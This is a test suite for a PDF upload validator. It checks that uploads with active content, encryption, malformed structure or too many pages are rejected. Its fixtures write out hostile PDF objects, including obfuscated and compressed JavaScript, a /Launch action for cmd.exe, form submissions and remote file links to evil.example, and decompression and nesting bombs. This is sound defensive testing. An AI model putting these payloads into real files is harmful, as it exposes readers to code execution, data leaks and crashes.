import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, StandardFonts } from '@cantoo/pdf-lib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildUser } from '#core/users/server/factory.ts';
import { type TestApp, testApp } from '#test/app.ts';
import { packObjects, uploadForm, writePdf } from './factory.ts';

let t: TestApp;
beforeAll(async () => {
  t = await testApp({ LIMIT_UPLOADS_PER_HOUR: '1000' });
});
afterAll(() => t.close());

async function upload(bytes: Uint8Array) {
  return t.call(await buildUser(t.db), 'POST /uploads/document', await uploadForm({ bytes, name: 'x.pdf' }));
}
/** A PDF with one part replaced. */
const changed = (part: string, by: string) =>
  Buffer.from(writePdf().toString('latin1').replace(part, by), 'latin1');

const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
/** A script in an object stream whose dictionary has these extra entries. */
function packScript({ said = '/Type /ObjStm', filter = '/FlateDecode', rounds = 1 } = {}): string {
  let packed = Buffer.from(`1 0 ${script}`);
  for (let round = 0; round < rounds; round += 1) packed = deflateSync(packed);
  return `<< ${said} /N 1 /First 4 /Filter ${filter} >>\nstream\n${packed.toString('latin1')}\nendstream`;
}

describe('PDFs are checked and kept as they came (D-98)', () => {
  it('when plain, byte by byte', async () => {
    const person = await buildUser(t.db);
    const plain = writePdf(packObjects('1 0 << /Type /Font >>'));
    const form = await uploadForm({ bytes: plain, name: 'cheque.pdf' }, { documentType: 'cheque' });
    const reply = await t.call(person, 'POST /uploads/document', form);
    expect(reply.status).toBe(201);
    const kept = await t.call(person, `GET ${reply.body.documentUrl.slice('/api'.length)}`);
    expect(kept.raw).toEqual(plain);
  });

  it.each([
    ['packed objects and a table of them in a stream', true],
    ['plain objects and a table at the end', false],
  ])('when another program wrote them with %s', async (_how, useObjectStreams) => {
    const written = await PDFDocument.create();
    written.setTitle('What /JavaScript and a /Launch action are');
    const font = await written.embedFont(StandardFonts.Helvetica);
    for (let page = 1; page <= 50; page += 1) written.addPage().drawText(`Page ${page}`, { font });
    const first = written.getPage(0).ref;
    written.catalog.set(PDFName.of('OpenAction'), written.context.obj([first, 'Fit']));
    expect((await upload(await written.save({ useObjectStreams }))).status).toBe(201);
    written.addPage();
    expect((await upload(await written.save({ useObjectStreams }))).body.code).toBe('DOCUMENT_TOO_LONG');
  });

  it.each([
    ['names of actions in a text', '<< /Title (\\(/S /JavaScript /JS\\) and /Launch) /Author <2F4A53> >>'],
    ['a link', '<< /Subtype /Link /A << /S /URI /URI (https://portal.example) >> >>'],
    ['a first page to open at', '<< /OpenAction [3 0 R /XYZ null null 0] >>'],
    ['an action that goes to a page', '<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>'],
    ['a stream whose length stands elsewhere', '<< /Length 9 0 R >>\nstream\n\xff\xd8obj\xff\nendstream'],
    ['NUL and form feed between words', '<<\0/Type\f/Font\0>>'],
  ])('with %s', async (_case, object) => {
    expect((await upload(writePdf(object))).status).toBe(201);
  });

  it.each([
    ['JavaScript', script],
    ['JavaScript written in hex', '<< /S /J#61vaScript >>'],
    ['JavaScript packed', packScript()],
    [
      'JavaScript packed behind a long dictionary',
      packScript({ said: `/Type /ObjStm /Pad (${'x'.repeat(9000)})` }),
    ],
    [
      'JavaScript packed behind a text that ends it',
      packScript({ said: '/Type /ObjStm /Pad (endobj obj >> stream)' }),
    ],
    ['JavaScript packed without saying so', packScript({ said: '' })],
    ['JavaScript packed twice', packScript({ filter: '[/FlateDecode /FlateDecode]', rounds: 2 })],
    ['JavaScript between odd white space', '<<\0/S\f/JavaScript\0/JS(x)>>'],
    ['JavaScript behind a comment', '<< /S %\n/JavaScript /JS (x) >>'],
    ['JavaScript in a comment that a table may point into', `% 9 0 obj ${script} endobj\n<< >>`],
    [
      'JavaScript in a stream that a table may point into',
      `<< /Length 99 >>\nstream\n9 %\n0 obj ${script}\nendstream`,
    ],
    ['JavaScript deep inside', `[ << /A [ << /B ${script} >> ] >> ]`],
    ['a program to launch', '<< /S /Launch /F (cmd.exe) >>'],
    ['a file on another machine', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>'],
    ['an attached file', '<< /Type /EmbeddedFile >>'],
    ['a way into an attached file', '<< /S /GoToE >>'],
    ['a form that sends data', '<< /S /SubmitForm /F (http://evil.example) >>'],
    ['a form that takes data in', '<< /S /ImportData /F (x.fdf) >>'],
    ['a form in XML', '<< /AcroForm << /XFA 9 0 R >> >>'],
    ['multimedia', '<< /Subtype /RichMedia >>'],
    ['an address that it opens', '<< /OpenAction << /S /URI /URI (http://evil.example) >> >>'],
    ['something to open that nobody finds', '<< /OpenAction 99 0 R >>'],
  ])('but not with %s', async (_case, object) => {
    const reply = await upload(writePdf(object));
    const message =
      'This PDF has active content, such as a script, an attached file or a form that sends data. Please open it, choose Print and Save as PDF, and upload the new file or a picture of it.';
    expect(reply.body).toEqual({ message, code: 'DOCUMENT_ACTIVE', errors: { document: message } });
  });

  const encrypted = async (passwords: { userPassword?: string }, useObjectStreams: boolean) => {
    const written = await PDFDocument.create();
    written.addPage();
    written.encrypt({ ownerPassword: 'owner', permissions: {}, ...passwords });
    return written.save({ useObjectStreams });
  };
  it.each([
    ['the password of its owner alone', () => encrypted({}, false)],
    ['the password of its owner alone, and its objects packed', () => encrypted({}, true)],
    ['a password that opens it', () => encrypted({ userPassword: 'secret' }, true)],
    ['encryption that any object names', () => writePdf('<< /Encrypt 9 0 R >>')],
    ['encryption that the trailer names', () => changed('trailer <<', 'trailer << /Encrypt 9 0 R')],
  ])('nor protected by %s (D-331)', async (_case, bytes) => {
    const reply = await upload(await bytes());
    const message =
      'This PDF is protected by a password or against changes. Please open it, choose Print and Save as PDF, and upload the new file or a picture of it.';
    expect(reply.body).toEqual({ message, code: 'DOCUMENT_PROTECTED', errors: { document: message } });
  });

  const page = '<!-- served in 0.02s --></body></html>';
  it.each([
    ['a byte order mark before it', Buffer.concat([Buffer.from('\ufeff'), writePdf()])],
    ['blank lines before it', Buffer.concat([Buffer.from('\r\n \0\n'), writePdf()])],
    ['the end of a web page behind it', Buffer.concat([writePdf(), Buffer.from(page)])],
    ['a comment behind it', Buffer.concat([writePdf(), Buffer.from('% über den Server gesandt\n')])],
    ['the end of a form behind it', Buffer.concat([writePdf(), Buffer.from('\r\n------x--\r\n')])],
    ['the end mark of an old system behind it', Buffer.concat([writePdf(), Buffer.from([0x1a])])],
  ])('with %s, which is cut off (D-331)', async (_case, bytes) => {
    const person = await buildUser(t.db);
    const { status, body } = await t.call(person, 'POST /uploads/document', await uploadForm({ bytes }));
    expect(status).toBe(201);
    const { raw } = await t.call(person, `GET ${body.documentUrl.slice('/api'.length)}`);
    expect(raw.toString('latin1').trimEnd()).toBe(writePdf().toString('latin1').trimEnd());
  });

  it.each(['%%EO', '%', ''])('without the end of its end mark: "%s" (D-331)', async (end) => {
    expect((await upload(changed('%%EOF\n', `startxref\n9\n${end}`))).status).toBe(201);
  });

  const many = Array.from({ length: 51 }, (_, index) => `${index + 3} 0 R`).join(' ');
  const fifty = many.replace(' 53 0 R', '');
  const pages = (count: number) => Array.from({ length: count }, () => '<< /Type /Page /Parent 2 0 R >>');
  const withKids = (kids: string, objects: string[]) =>
    Buffer.from(
      writePdf(...objects)
        .toString('latin1')
        .replace('[3 0 R]', kids),
      'latin1',
    );

  it('of at most 50 pages', async () => {
    expect((await upload(withKids(`[${fifty}]`, pages(49)))).status).toBe(201);
    const reply = await upload(withKids(`[${many}]`, pages(50)));
    expect(reply.body).toEqual({
      message: 'This PDF has more than 50 pages. Please upload a shorter one.',
      code: 'DOCUMENT_TOO_LONG',
      errors: { document: 'This PDF has more than 50 pages. Please upload a shorter one.' },
    });
  });

  it.each([
    ['one page that is shown 10,000 times', withKids(`[${'3 0 R '.repeat(10_000)}]`, [])],
    [
      'pages below pages that double each time',
      withKids(
        '[4 0 R]',
        Array.from({ length: 40 }, (_, level) => `<< /Kids [${level + 5} 0 R ${level + 5} 0 R] >>`).concat(
          '<< >>',
        ),
      ),
    ],
    ['51 pages, of which its tree holds one', writePdf(...pages(50))],
    [
      '10,000 pages outside its tree, with a type written in hex',
      writePdf(...pages(9_999).map((page) => page.replace('/Page ', '/P#61ge '))),
    ],
    ['more pages than there are, as it claims', changed('/Count 1', '/Count 10000')],
    ['its list of pages elsewhere', withKids('4 0 R', [`[${'3 0 R '.repeat(51)}]`])],
    [
      'an older list of pages',
      changed('trailer', `2 0 obj << /Kids [${'3 0 R '.repeat(51)}] >> endobj trailer`),
    ],
  ])('counted as a reader would: %s', async (_case, bytes) => {
    expect((await upload(bytes)).body.code).toBe('DOCUMENT_TOO_LONG');
  });

  it.each([
    ['cut off', writePdf().subarray(0, 60)],
    ['followed by something else', Buffer.concat([writePdf(), Buffer.from('PK\x03\x04')])],
    ['followed by a long text', Buffer.concat([writePdf(), Buffer.from('x'.repeat(1_025))])],
    ['cut off in a later revision', Buffer.concat([writePdf(), Buffer.from('3 0 obj << /Type /Pa')])],
    ['without pages', changed('[3 0 R] /Count 1', '[]')],
    ['of pages that nobody finds', changed('[3 0 R]', '[9 0 R]')],
    ['of pages that hold themselves', changed('[3 0 R]', '[3 0 R 2 0 R]')],
    ['with two values of one name', writePdf('<< /S /GoTo /S /URI >>')],
    ['of what is no object', writePdf('<< /A ! >>')],
    ['of a stream without end', writePdf('<< >>\nstream\nx')],
    ['of packed objects that unfold without end', writePdf(packObjects('A'.repeat(40_000_000)))],
    [
      'of packed objects that are not',
      writePdf('<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\nxx\nendstream'),
    ],
    [
      'of packed objects that only some readers unfold',
      writePdf(packScript({ said: '/DecodeParms << /Predictor 12 >>' })),
    ],
    ['of packed objects in an odd filter', writePdf(packScript({ filter: '/LZWDecode' }))],
    ['of lists without end', writePdf('['.repeat(3_000_000))],
  ])('nor %s', async (_case, bytes) => {
    const reply = await upload(bytes);
    expect(reply.status).toBe(400);
    expect(reply.body).toEqual({
      message: 'This file is damaged and cannot be read',
      code: 'DOCUMENT_DAMAGED',
      errors: { document: 'This file is damaged and cannot be read' },
    });
  });
});
